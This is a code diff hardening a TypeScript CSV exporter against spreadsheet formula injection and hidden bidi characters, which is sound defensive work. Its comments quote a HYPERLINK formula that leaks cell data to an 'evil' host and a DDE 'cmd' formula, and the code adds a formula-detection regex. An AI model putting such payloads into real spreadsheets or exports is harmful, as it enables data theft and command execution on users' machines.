@@ -1,8 +1,11 @@
 // CSV export (RFC 4180) for tables analysts open in spreadsheets: CRLF line
-// ends, fields quoted when they hold a quote, comma, CR or LF, inner quotes
-// doubled. Text cells are also defused against spreadsheet formula injection.
+// ends, every text field quoted, inner quotes doubled. Text cells are also
+// defused against spreadsheet formula injection, and hidden bidi and
+// zero-width characters are written out so a cell cannot read as something
+// it is not.
 import { claimStatusLabel, claimTypeLabel, type ClaimStatus, type ClaimType } from '../domain/claim'
 import { confidenceLabel, type Confidence, type Credibility, type Reliability } from '../domain/scales'
+import { isolate, needsIsolation, spelledOut } from '../text/invisible'
 
 export type CsvValue = string | number | boolean | null | undefined
 
@@ -16,22 +19,40 @@ export interface CsvOptions {
 }
 
 // Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell whose text
-// begins with one of these as a formula, so a statement copied from a hostile
-// page such as `=HYPERLINK("http://evil/?"&A1,"click")` or `@SUM(...)` would
-// run on the analyst's machine or leak data. A leading apostrophe makes the
-// spreadsheet show the text as text (OWASP "CSV injection" advice). TAB and
-// CR are included because some spreadsheets strip them and then see the
-// formula. The cost: text that merely looks like a negative number ("-12",
-// "-3 %") or starts with "+" gets the apostrophe too. Real numbers passed as
-// numbers are written as they are: they cannot be formulas.
-const formulaStart = /^[=+\-@\t\r]/
+// begins with one of = + - @ as a formula, so a statement copied from a
+// hostile page such as `=HYPERLINK("http://evil/?"&A1,"click")` or
+// `@SUM(...)` would run on the analyst's machine or leak data. A leading
+// apostrophe makes the spreadsheet show the text as text (OWASP "CSV
+// injection" advice). Also caught: TAB and CR, which some spreadsheets strip
+// before they see the formula; leading white space before a formula
+// character, which some trim; and the full-width ＝ ＋ － ＠ that Excel
+// accepts as formula starts in East Asian locales. A field opened with FSI
+// (see below) is checked after it. The cost: text that merely looks like a
+// negative number ("-12", "-3 %") or starts with "+" gets the apostrophe too.
+// Real numbers passed as numbers are written as they are: they cannot be
+// formulas.
+const formulaStart = /^\u2068?(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/
 
-/** One field: defused if it is text that could be read as a formula, then quoted if needed. */
+/**
+ * One text cell: hidden bidi and zero-width characters written out by name
+ * ("[U+202E RIGHT-TO-LEFT OVERRIDE]") so they cannot reorder the cell, the
+ * cell wrapped in FSI…PDI when it holds right-to-left text or held such a
+ * character (its direction cannot spill into the next cell), then defused,
+ * then always quoted: a field left bare is split by a spreadsheet whose list
+ * separator is ";" (`x;=cmd|' /C calc'!A0` would become a live formula cell),
+ * and quoting every one also keeps leading and trailing spaces.
+ */
+function textField(value: string): string {
+  let s = spelledOut(value)
+  if (needsIsolation(value)) s = isolate(s)
+  if (formulaStart.test(s)) s = `'${s}`
+  return `"${s.replace(/"/g, '""')}"`
+}
+
+/** One field: numbers and booleans as they are, null and undefined empty, text as `textField`. */
 export function csvField(value: CsvValue): string {
   if (value === null || value === undefined) return ''
-  let s = typeof value === 'string' ? value : String(value)
-  if (typeof value === 'string' && formulaStart.test(s)) s = `'${s}`
-  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s
+  return typeof value === 'string' ? textField(value) : String(value)
 }
 
 /** A CSV document: a header record, then one record per row, each ending in CRLF. */
